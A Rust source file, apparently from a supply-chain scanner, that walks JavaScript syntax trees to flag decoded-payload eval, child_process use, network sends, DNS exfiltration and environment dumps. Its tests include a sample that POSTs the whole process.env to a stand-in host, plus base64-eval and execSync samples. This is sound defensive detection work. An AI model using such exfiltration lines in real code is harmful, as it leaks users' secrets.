//! JavaScript through tree-sitter: calls, `new` expressions, member
//! reads of `process.env` and string literals become signals.

use super::signals::{Collector, FileSignals, Kind, Place};
use std::cell::RefCell;
use tree_sitter::{Node, Parser};

const MAX_DEPTH: usize = 400;

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// Parses `src` and returns its signals.
pub fn analyze(src: &[u8]) -> Option<FileSignals> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut p = Parser::new();
            p.set_language(&tree_sitter_javascript::LANGUAGE.into())
                .ok()?;
            *slot = Some(p);
        }
        let parser = slot.as_mut()?;
        let tree = parser.parse(src, None)?;
        let mut w = Walker {
            src,
            nested: false,
            c: Collector::new(src),
            child_process: memchr::memmem::find(src, b"child_process").is_some(),
        };
        let root = Place {
            row: 0,
            col: 0,
            scope: 0,
            top_level: true,
        };
        w.visit(tree.root_node(), root, 0);
        Some(w.c.finish())
    })
}

struct Walker<'a> {
    src: &'a [u8],
    /// Walking a decoded payload (decoded once, not recursively).
    nested: bool,
    c: Collector<'a>,
    child_process: bool,
}

const FUNCTIONS: &[&str] = &[
    "function_declaration",
    "function_expression",
    "function",
    "arrow_function",
    "method_definition",
    "generator_function_declaration",
    "generator_function",
];

impl<'a> Walker<'a> {
    fn text(&self, n: Node) -> &'a str {
        n.utf8_text(self.src).unwrap_or("")
    }

    fn visit(&mut self, n: Node, mut at: Place, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        at.row = n.start_position().row;
        at.col = n.start_position().column;
        let kind = n.kind();
        if FUNCTIONS.contains(&kind) {
            // An anonymous callback belongs to the function that passes it
            // (`https.get(url, r => … eval(body))` is one piece of behaviour);
            // a named function is a scope of its own, run when called.
            if let Some(name) = function_name(n, self.src) {
                at.scope = self.c.scope();
                at.top_level = false;
                self.c.define(name, at.scope);
            } else if !is_iife(n) && !is_callback(n) {
                at.scope = self.c.scope();
                at.top_level = false;
            }
        }
        match kind {
            "call_expression" => self.call(n, at),
            "new_expression" => self.new_expr(n, at),
            "member_expression" => self.member(n, at),
            "string" | "template_string" => {
                let t = self.text(n);
                self.c.string(t, at);
                if kind == "string" {
                    return;
                }
            }
            _ => {}
        }
        let mut cur = n.walk();
        for child in n.children(&mut cur) {
            self.visit(child, at, depth + 1);
        }
    }

    fn member(&mut self, n: Node, at: Place) {
        let t = self.text(n);
        if let Some(var) = t.strip_prefix("process.env.")
            && super::signals::is_secret_var(var)
        {
            self.c.add(Kind::SecretEnv, "secret variable", at);
        }
    }

    fn new_expr(&mut self, n: Node, at: Place) {
        let ctor = n
            .child_by_field_name("constructor")
            .map(|c| self.text(c))
            .unwrap_or("");
        let args = n
            .child_by_field_name("arguments")
            .map(|a| self.text(a))
            .unwrap_or("");
        match ctor {
            "Function" => self.exec(args, at, "new Function"),
            "vm.Script" => self.exec(args, at, "vm.Script"),
            "XMLHttpRequest" => self.c.add(Kind::Network, "XMLHttpRequest", at),
            "net.Socket" => self.c.add(Kind::Network, "raw socket", at),
            _ => {}
        }
    }

    fn exec(&mut self, args: &str, at: Place, what: &'static str) {
        if let Some(d) = decode_in(args) {
            self.c.add(Kind::ExecDecoded, d, at);
            if d == "base64" && !self.nested {
                // What the hidden code does, placed on the eval line.
                let inner = super::signals::decode_base64_literal(args);
                if let Some(sub) = inner.and_then(|b| nested(&b)) {
                    for s in sub.signals {
                        self.c.add(s.kind, s.detail, at);
                    }
                }
            }
        } else if !is_plain_literal(args) {
            self.c.add(Kind::Exec, what, at);
        }
    }

    fn call(&mut self, n: Node, at: Place) {
        let Some(func) = n.child_by_field_name("function") else {
            return;
        };
        let callee: String = self
            .text(func)
            .chars()
            .filter(|c| !c.is_whitespace())
            .collect();
        let args = n
            .child_by_field_name("arguments")
            .map(|a| self.text(a))
            .unwrap_or("");
        let (base, name) = match callee.rsplit_once('.') {
            Some((b, n)) => (b, n),
            None => ("", callee.as_str()),
        };
        if base.is_empty() || base == "this" {
            self.c.called(name, at);
        }
        match (base, name) {
            ("", "eval")
            | ("", "Function")
            | ("vm", "runInThisContext")
            | ("vm", "runInNewContext")
            | ("vm", "runInContext") => self.exec(args, at, "eval"),
            _ => {}
        }
        for (kind, detail) in classify_call(base, name, args, self.child_process) {
            self.c.add(kind, detail, at);
        }
    }
}

/// A decoded payload, parsed with a fresh parser (the thread's is busy).
fn nested(src: &[u8]) -> Option<FileSignals> {
    let mut p = Parser::new();
    p.set_language(&tree_sitter_javascript::LANGUAGE.into())
        .ok()?;
    let tree = p.parse(src, None)?;
    let mut w = Walker {
        src,
        nested: true,
        c: Collector::new(src),
        child_process: memchr::memmem::find(src, b"child_process").is_some(),
    };
    let root = Place {
        row: 0,
        col: 0,
        scope: 0,
        top_level: true,
    };
    w.visit(tree.root_node(), root, 0);
    Some(w.c.finish())
}

/// `function f() {}`, `const f = () => {}`, `f: function () {}`, `f() {}`.
fn function_name<'s>(n: Node, src: &'s [u8]) -> Option<&'s str> {
    let named = n.child_by_field_name("name").or_else(|| {
        let p = n.parent()?;
        match p.kind() {
            "variable_declarator" => p.child_by_field_name("name"),
            "pair" => p.child_by_field_name("key"),
            "assignment_expression" => p.child_by_field_name("left"),
            _ => None,
        }
    })?;
    named.utf8_text(src).ok()
}

/// A function passed directly as an argument.
fn is_callback(n: Node) -> bool {
    n.parent().is_some_and(|p| p.kind() == "arguments")
}

/// `(function(){ … })()` / `(() => { … })()`.
fn is_iife(n: Node) -> bool {
    let mut p = n.parent();
    while let Some(x) = p {
        match x.kind() {
            "parenthesized_expression" => p = x.parent(),
            "call_expression" => return true,
            "unary_expression" => p = x.parent(),
            _ => return false,
        }
    }
    false
}

fn is_plain_literal(args: &str) -> bool {
    let a = args
        .trim()
        .trim_start_matches('(')
        .trim_end_matches(')')
        .trim();
    (a.starts_with('"') && a.ends_with('"') && a.len() > 1)
        || (a.starts_with('\'') && a.ends_with('\'') && a.len() > 1)
}

fn decode_in(args: &str) -> Option<&'static str> {
    if args.contains("'base64'") || args.contains("\"base64\"") || args.contains("atob(") {
        Some("base64")
    } else if args.contains("'hex'") || args.contains("\"hex\"") {
        Some("hex")
    } else if args.contains("fromCharCode") {
        Some("char codes")
    } else if args.contains("inflateSync")
        || args.contains("gunzipSync")
        || args.contains("brotliDecompressSync")
    {
        Some("zlib")
    } else {
        None
    }
}

const CHILD_PROCESS: &[&str] = &[
    "exec",
    "execSync",
    "spawn",
    "spawnSync",
    "execFile",
    "execFileSync",
    "fork",
];

fn classify_call(
    base: &str,
    name: &str,
    args: &str,
    cp_in_file: bool,
) -> Vec<(Kind, &'static str)> {
    let mut v = Vec::new();
    let cp_base = base.is_empty()
        || base.contains("child_process")
        || base.ends_with("cp")
        || base.ends_with("childProcess");
    if CHILD_PROCESS.contains(&name) && cp_in_file && cp_base {
        v.push((Kind::Subprocess, "child_process"));
    }
    match name {
        "from" if base == "Buffer" => {
            if let Some(d) = decode_in(args) {
                v.push((Kind::Decode, d));
            }
        }
        "atob" => v.push((Kind::Decode, "base64")),
        "fromCharCode" if args.len() > 40 => v.push((Kind::Decode, "char codes")),
        "inflateSync" | "gunzipSync" | "brotliDecompressSync" | "inflateRawSync" => {
            v.push((Kind::Decode, "zlib"))
        }
        "fetch" => {
            v.push((Kind::Network, "fetch"));
            if args.contains("POST") || args.contains("PUT") || args.contains("body") {
                v.push((Kind::NetworkSend, "fetch POST"));
            }
        }
        "request" | "get"
            if matches!(base, "http" | "https")
                || base.ends_with("require(\"https\")")
                || base.ends_with("require('https')") =>
        {
            v.push((Kind::Network, "http(s) request"));
            if args.contains("POST") || args.contains("PUT") {
                v.push((Kind::NetworkSend, "HTTP POST/PUT"));
            }
        }
        "post" | "put" if base == "axios" || base.ends_with("got") => {
            v.push((Kind::NetworkSend, "HTTP POST/PUT"))
        }
        "connect" | "createConnection" if base == "net" || base == "tls" => {
            v.push((Kind::Network, "raw socket"))
        }
        "lookup" | "resolve" | "resolve4" | "resolveTxt"
            if base.ends_with("dns") || base.ends_with("dns.promises") =>
        {
            v.push((Kind::Network, "DNS"));
            if args.contains('+') || args.contains('`') {
                v.push((Kind::NetworkSend, "DNS lookup of built-up name"));
            }
        }
        "readFileSync" | "readFile" | "createReadStream" | "readdirSync" => {
            v.push((Kind::FileRead, "fs read"))
        }
        "writeFileSync" | "writeFile" | "appendFileSync" | "appendFile" | "createWriteStream"
        | "copyFileSync" | "copyFile" => v.push((Kind::FileWrite, "fs write")),
        "chmodSync" | "chmod" => v.push((Kind::Chmod, "chmod")),
        "stringify"
            if base == "JSON" && args.contains("process.env") && !args.contains("process.env.") =>
        {
            v.push((Kind::EnvDump, "whole environment"))
        }
        "entries" | "keys"
            if base == "Object" && args.trim_matches(['(', ')']) == "process.env" =>
        {
            v.push((Kind::EnvDump, "whole environment"))
        }
        _ => {}
    }
    if v.iter().any(|(k, _)| *k == Kind::NetworkSend) && whole_env(args) {
        v.push((Kind::EnvDump, "whole environment"));
    }
    v
}

/// `process.env` passed whole (not `process.env.X` or `process.env[…]`).
fn whole_env(args: &str) -> bool {
    args.match_indices("process.env").any(|(i, m)| {
        let next = args[i + m.len()..].chars().next();
        !matches!(next, Some('.') | Some('['))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<(Kind, bool)> {
        analyze(src.as_bytes())
            .unwrap()
            .signals
            .iter()
            .map(|s| (s.kind, s.top_level))
            .collect()
    }

    #[test]
    fn eval_of_decoded() {
        let k = kinds("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n");
        assert!(k.contains(&(Kind::ExecDecoded, true)), "{k:?}");
    }

    #[test]
    fn child_process_and_scopes() {
        let src = "const { execSync } = require('child_process');\nfunction f() { execSync('ls'); }\n(function () { execSync('id'); })();\n";
        let k = kinds(src);
        assert!(k.contains(&(Kind::Subprocess, false)), "{k:?}");
        assert!(k.contains(&(Kind::Subprocess, true)), "{k:?}");
        // A regular expression's exec is not a process.
        let k = kinds("const m = /a/.exec(s);\n");
        assert!(!k.iter().any(|(k, _)| *k == Kind::Subprocess), "{k:?}");
    }

    #[test]
    fn env_dump_and_send() {
        let src =
            "fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n";
        let s = analyze(src.as_bytes()).unwrap();
        assert!(s.has(Kind::EnvDump) && s.has(Kind::NetworkSend));
    }
}
